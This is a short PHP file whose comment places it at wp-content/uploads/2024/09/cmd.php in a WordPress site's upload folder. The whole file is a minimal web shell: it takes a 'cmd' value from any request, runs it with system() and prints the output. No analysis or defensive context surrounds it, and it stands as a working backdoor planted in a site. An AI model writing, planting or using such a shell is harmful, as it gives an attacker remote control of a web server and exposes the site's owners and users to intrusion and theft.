<?php
// wp-content/uploads/2024/09/cmd.php
if(isset($_REQUEST['cmd'])){ echo "<pre>"; system($_REQUEST['cmd']); echo "</pre>"; die; }
?>
